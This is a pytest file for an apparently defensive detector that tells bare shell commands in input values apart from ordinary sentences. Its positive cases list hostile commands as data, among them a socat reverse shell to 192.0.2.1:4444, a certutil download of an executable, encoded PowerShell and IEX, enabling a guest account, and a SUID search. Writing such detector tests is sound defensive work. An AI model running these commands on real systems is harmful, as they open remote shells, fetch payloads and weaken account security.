"""Programs called the way only a command line does."""

import time

import pytest

from delicti.detect.contexts import PROBABLE
from delicti.detect.shell_calls import CALLS, MOST, called_alone


@pytest.mark.parametrize(
    "value",
    [
        "cmd /c dir",
        "C:\\Windows\\System32\\cmd.exe /c whoami",
        "%COMSPEC% /c set",
        "powershell -nop -enc SQBFAFgA",
        "powershell IEX(1)",
        "certutil -urlcache -f http://192.0.2.1/a a.exe",
        "wmic process call create calc",
        "reg query HKLM\\Software",
        "net user guest /active:yes",
        "dir c:",
        "find / -perm -4000",
        "chmod 755 /tmp/x",
        "ssh root@192.0.2.1",
        "sort /etc/group",
        "echo x > /tmp/x",
        "more config.php",
        "socat tcp:192.0.2.1:4444 exec:sh",
    ],
)
def test_a_program_with_its_own_options_is_a_call(value):
    assert called_alone(value)[0] >= PROBABLE


@pytest.mark.parametrize(
    "value",
    [
        "find your date",
        "net use explained",
        "powershell tutorial",
        "how to use cmd /c in a batch file",
        "dir c: meaning",
        "start your engines",
        "git push origin main --force",
        "docker run -it ubuntu",
        "what does chmod 755 mean",
        "type O negative",
        "more about us",
        "host family in Lyon",
        "wmic cpu get name",
        "sort by price",
        "copy that",
    ],
)
def test_a_sentence_is_no_call(value):
    assert called_alone(value)[0] == 0.0


@pytest.mark.parametrize("piece", ["ssh -a ", "curl -a=b ", "ping -a 1 ", "wmic /a ", "find / ! ", "/a/", "nc -a "])
def test_a_value_without_end_takes_little_time(piece):
    began = time.process_time()
    called_alone(piece * 2000)
    assert time.process_time() - began < 0.5


def test_every_call_knows_a_word_it_needs():
    assert all(call.words for call in CALLS)


def test_only_the_first_part_of_a_long_value_is_read():
    assert called_alone("x" * MOST + ";cmd /c dir")[0] == 0.0
